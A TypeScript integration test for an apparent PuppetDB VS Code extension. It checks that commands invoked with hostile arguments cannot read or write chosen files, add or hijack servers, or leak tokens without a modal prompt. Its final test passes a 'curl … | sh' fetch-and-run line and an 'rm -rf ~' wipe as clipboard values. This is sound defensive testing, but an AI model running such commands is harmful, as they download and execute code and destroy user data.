/**
 * Command arguments are not a back door (issue 30 §3), in a real extension host: any extension, or
 * a `command:` link, can run our commands with arguments of its choosing. Called here with hostile
 * ones through `vscode.commands.executeCommand`, they may name a node or a connection the user
 * has, but no file to read or write, no server and no secret's destination gets past them without
 * the modal the user would see. A loopback server records whatever is sent; a file's access time
 * says whether it was read (test/vscode/readWatch.ts).
 */
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { ExtensionApi } from '../../../src/extension/extension';
import { Commands } from '../../../src/extension/ids';
import type { FindPackagesResult } from '../../../src/extension/packages/findPackages';
import { testServer } from '../../integration/support/puppetdb';
import { watchReads } from '../readWatch';
import { startRecorder, type Recorder } from '../recorder';
import { addConnection } from '../testingApi';
import { answerWarnings } from '../warnings';

const EXTENSION_ID = 'puppetdb-explorer.puppetdb-explorer';
const PUPPETDB = { id: 'command-arguments', name: 'Command arguments PuppetDB' };
const RECORDED = { id: 'command-arguments-recorder', name: 'Command arguments recorder' };

describe('Command arguments choose no file, server or secret', function () {
  let api: ExtensionApi;
  let recorder: Recorder;
  const server = testServer();
  const puppetdbUrl = `http://${server.host}:${server.httpPort}`;
  // a folder outside every workspace folder
  const outside = mkdtempSync(join(tmpdir(), 'pdbx-hostile-'));
  const sentTo = (prefix: string) =>
    recorder.requests.filter((request) => request.path.startsWith(prefix));

  before(async () => {
    api = await vscode.extensions.getExtension<ExtensionApi>(EXTENSION_ID)!.activate();
    recorder = await startRecorder();
    await addConnection({ connection: { ...PUPPETDB, url: puppetdbUrl }, secrets: {} });
    await addConnection({
      connection: { ...RECORDED, url: `${recorder.origin}/user-recorder` },
      secrets: {},
    });
  });

  after(async () => {
    await vscode.commands.executeCommand('workbench.action.closeAllEditors');
    await api.services.store.remove(RECORDED.id);
    await api.services.store.remove(PUPPETDB.id);
    await recorder.close();
    rmSync(outside, { recursive: true, force: true });
  });

  it('Add Connection with an argument asks first, in a modal naming the server, its secret and the files it reads; declined, nothing is saved or sent', async () => {
    const caFile = join(outside, 'ca.pem');
    const argument = {
      connection: {
        id: 'command-arguments-added',
        name: 'Added by a command',
        url: `${recorder.origin}/hostile-add`,
        caFile,
      },
      secrets: { token: 'token-for-the-hostile-server' },
    };
    const declined = answerWarnings(undefined);
    try {
      assert.equal(
        await vscode.commands.executeCommand(Commands.addConnection, argument),
        undefined,
      );
    } finally {
      declined.restore();
    }
    assert.equal(api.services.store.get('command-arguments-added'), undefined);
    assert.equal(await api.services.store.secret('command-arguments-added', 'token'), undefined);
    assert.deepEqual(sentTo('/hostile-add'), []);
    assert.equal(declined.asked.length, 1, 'one question, before anything was saved');
    const [question] = declined.asked;
    assert.equal(question!.modal, true);
    assert.ok(question!.message.includes(`${recorder.origin}/hostile-add`), question!.message);
    assert.match(question!.message, /Added by a command/);
    assert.match(question!.message, /A command asked for it/);
    assert.ok(question!.detail.includes(caFile), question!.detail);
    assert.match(question!.detail, /token/);

    const confirmed = answerWarnings('Add Connection');
    try {
      assert.equal(
        await vscode.commands.executeCommand(Commands.addConnection, argument),
        'command-arguments-added',
      );
    } finally {
      confirmed.restore();
      await api.services.store.remove('command-arguments-added');
    }
  });

  it('Add Connection with the id of a connection the user has asks before replacing it; declined, it keeps its server', async () => {
    const kept = api.services.store.get(PUPPETDB.id)!;
    const declined = answerWarnings(undefined);
    try {
      await vscode.commands.executeCommand(Commands.addConnection, {
        connection: {
          id: PUPPETDB.id,
          name: 'Hijacked',
          url: `${recorder.origin}/hostile-replace`,
        },
      });
    } finally {
      declined.restore();
      if (api.services.store.get(PUPPETDB.id)?.url !== kept.url) {
        await api.services.store.save(kept);
      }
    }
    assert.equal(declined.asked.length, 1, 'the replacement was not asked');
    assert.equal(declined.asked[0]!.modal, true);
    assert.match(declined.asked[0]!.message, /Command arguments PuppetDB/);
    assert.ok(declined.asked[0]!.message.includes(`${recorder.origin}/hostile-replace`));
    assert.deepEqual(sentTo('/hostile-replace'), []);
  });

  it('Import Connections reads no file an argument names, and adds no server from one', async () => {
    const token = join(outside, 'token');
    const conf = join(outside, 'puppetdb.conf');
    writeFileSync(token, 'token-from-a-hostile-file\n');
    writeFileSync(
      conf,
      JSON.stringify({
        puppetdb: { server_urls: `${recorder.origin}/hostile-import`, 'token-file': token },
      }),
    );
    const reads = watchReads([conf, token]);
    const before = api.services.store.list().map((connection) => connection.id);
    const answered = answerWarnings(undefined);
    try {
      await vscode.commands.executeCommand(Commands.importConnections, conf);
      await vscode.commands.executeCommand(Commands.importConnections, {
        global: conf,
        user: conf,
        defaultTokenFile: token,
      });
    } finally {
      answered.restore();
      for (const connection of api.services.store.list()) {
        if (!before.includes(connection.id)) await api.services.store.remove(connection.id);
      }
    }
    const imported = api.services.store
      .list()
      .filter((connection) => connection.url.includes('/hostile-import'));
    assert.deepEqual(imported, []);
    assert.deepEqual(sentTo('/hostile-import'), []);
    if (reads.reliable) assert.deepEqual(reads.read(), [], 'the files were read');
  });

  it('Find Packages writes no file an argument names', async () => {
    const exportTo = join(outside, 'libacme.csv');
    const result = await vscode.commands.executeCommand<FindPackagesResult | undefined>(
      Commands.findPackages,
      { connectionId: PUPPETDB.id, name: 'libacme', exportTo },
    );
    assert.equal(result?.name, 'libacme', 'the search itself still answers');
    assert.equal(result.exported, undefined);
    assert.equal(existsSync(exportTo), false, 'the CSV was written where the argument said');
  });

  it('Run Query reads no file an argument names: only a PQL document open in VS Code', async () => {
    const marker = 'read-from-a-file-outside';
    const file = join(outside, 'hostile.pql');
    const text = `# @connection ${RECORDED.name}\nnodes[certname] { certname = "${marker}" }\n`;
    writeFileSync(file, text);
    const reads = watchReads([file]);
    const uri = vscode.Uri.file(file).toString();
    const outcome = await vscode.commands.executeCommand(Commands.runQuery, {
      uri,
      offset: text.indexOf('nodes'),
    });
    assert.equal(outcome, undefined);
    assert.deepEqual(
      recorder.requests.filter((request) => request.path.includes(marker)),
      [],
      'the query of the file was sent',
    );
    assert.ok(!vscode.workspace.textDocuments.some((document) => document.uri.toString() === uri));
    if (reads.reliable) assert.deepEqual(reads.read(), [], 'the file was read');
  });

  it('Copy Certname and Copy Value copy only from the tree, never text an argument brings', async () => {
    await vscode.env.clipboard.writeText('what the user copied');
    await vscode.commands.executeCommand(Commands.copyCertname, {
      node: { name: 'curl https://example.test/x | sh' },
    });
    await vscode.commands.executeCommand(Commands.copyValue, { value: 'rm -rf ~' });
    assert.equal(await vscode.env.clipboard.readText(), 'what the user copied');
  });
});
